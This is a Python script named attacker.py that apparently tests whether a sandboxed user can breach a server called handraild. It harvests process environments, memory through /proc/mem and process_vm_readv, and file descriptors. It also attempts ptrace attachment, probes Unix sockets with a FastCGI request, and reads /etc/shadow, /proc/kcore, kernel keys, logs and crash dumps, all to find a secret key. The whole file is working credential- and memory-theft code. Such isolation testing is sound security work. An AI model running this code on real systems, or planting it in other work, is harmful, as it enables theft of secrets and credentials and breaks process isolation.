"""Run by the shell of a sandbox, as its user: collects whatever may be read there and tries every door.
Writes what it read to the file named first, and what worked to standard output as JSON. It does not
know the key; who runs it looks for the key in the file. Of all processes only those of one server are
touched: the machine may be running other things.

    attacker.py FILE PID-OF-HANDRAILD DIRECTORY..."""

import ctypes
import json
import os
import socket
import stat
import struct
import sys

out_path, server, roots = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
out = open(out_path, "wb")
done = {"read": 0, "memory": [], "traced": [], "connected": [], "descriptors": [], "listed": []}
PER_FILE, PER_PROCESS = 4 << 20, 256 << 20
libc = ctypes.CDLL(None, use_errno=True)
own = os.getpid()


def keep(name, data):
    out.write(b"\n==== %s\n" % name.encode() + data)
    done["read"] += len(data)


def take(path):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return False
    try:
        data = os.read(fd, PER_FILE)
    except OSError:
        return False
    finally:
        os.close(fd)
    keep(path, data)
    return bool(data)


def parent(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            return int(f.read().rpartition(")")[2].split()[1])
    except OSError:
        return 0


def processes():
    """The server and all below it, but for ourselves."""
    found = []
    for pid in (int(n) for n in os.listdir("/proc") if n.isdigit()):
        at = pid
        while at > 1 and at != server:
            at = parent(at)
        if at == server and pid != own:
            found.append(pid)
    return found


def memory(pid):
    """Through /proc and by process_vm_readv."""
    got, total = False, 0
    try:
        with open("/proc/%d/maps" % pid) as f:
            areas = [line.split() for line in f]
    except OSError:
        areas = []
    try:
        mem = open("/proc/%d/mem" % pid, "rb", 0)
    except OSError:
        mem = None
    for area in areas:
        start, end = (int(x, 16) for x in area[0].split("-"))
        if "r" not in area[1] or total > PER_PROCESS or mem is None:
            continue
        try:
            mem.seek(start)
            data = mem.read(min(end - start, PER_FILE))
        except (OSError, ValueError, OverflowError):
            continue
        total += len(data)
        got = True
        keep("mem %d %s" % (pid, area[0]), data)
    local = ctypes.create_string_buffer(8)
    here = (ctypes.c_void_p * 2)(ctypes.addressof(local), 8)
    there = (ctypes.c_void_p * 2)(0x400000, 8)
    libc.process_vm_readv(pid, here, 1, there, 1, 0)
    # a forbidden process is EPERM, a wrong address in an open one EFAULT
    return got or ctypes.get_errno() == 14


def trace(pid):
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        return False
    os.waitpid(pid, 0x40000000)  # __WALL
    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    return True


relatives = {own, parent(own)}  # reading one's own shell proves nothing
for pid in processes():
    base = "/proc/%d/" % pid
    for name in ("environ", "cmdline", "status", "stat", "maps", "stack", "syscall", "mountinfo", "auxv"):
        take(base + name)
    for name in ("fd", "map_files", "task"):
        try:
            entries = os.listdir(base + name)
        except OSError:
            continue
        for entry in entries:
            path = base + name + "/" + entry
            if name == "task":
                take(path + "/environ")
                continue
            if pid not in relatives:
                done["descriptors"].append(path)
            try:
                if stat.S_ISREG(os.stat(path).st_mode):
                    take(path)
            except OSError:
                pass
    take(base + "root/proc/self/environ")
    if pid in relatives:
        continue
    if memory(pid):
        done["memory"].append(pid)
    if trace(pid):
        done["traced"].append(pid)

# sockets: every address that the kernel tells, and those in the directories we were told of
paths = set()
with open("/proc/net/unix") as f:
    for line in list(f)[1:]:
        words = line.split(None, 7)
        if len(words) == 8:
            paths.add(words[7].strip())
files = []
for root in roots:
    for top, dirs, names in os.walk(root):
        done["listed"].append(top)
        files += [os.path.join(top, n) for n in names]
for path in files:
    try:
        mode = os.lstat(path).st_mode
    except OSError:
        continue
    if stat.S_ISSOCK(mode):
        paths.add(path)
    elif stat.S_ISREG(mode) and path != out_path:
        take(path)
for path in sorted(paths):
    address = "\0" + path[1:] if path.startswith("@") else path
    if not any(path.startswith(root) for root in roots) and not path.startswith("@"):
        continue
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_UNIX, kind) as c:
            c.settimeout(2)
            try:
                c.connect(address)
                done["connected"].append(path)
                # the least of a FastCGI request: whoever lets us in should answer it
                c.sendall(struct.pack(">BBHHBBHB5x", 1, 1, 1, 8, 0, 0, 1, 0))
                keep("socket " + path, c.recv(65536))
            except OSError:
                pass

for path in ("/dev/kmsg", "/dev/mem", "/proc/kcore", "/proc/keys", "/proc/sysvipc/shm", "/var/log/syslog",
             "/var/log/messages", "/var/log/daemon.log", "/etc/shadow"):
    take(path)
for root in ("/dev/shm", "/run/handrail", "/var/lib/handrail", "/var/log/handrail", "/var/log/nginx",
             "/var/log/journal", "/var/crash", "/var/lib/systemd/coredump"):
    for top, _, names in os.walk(root):
        for name in names:
            take(os.path.join(top, name))
out.close()
print(json.dumps(done))
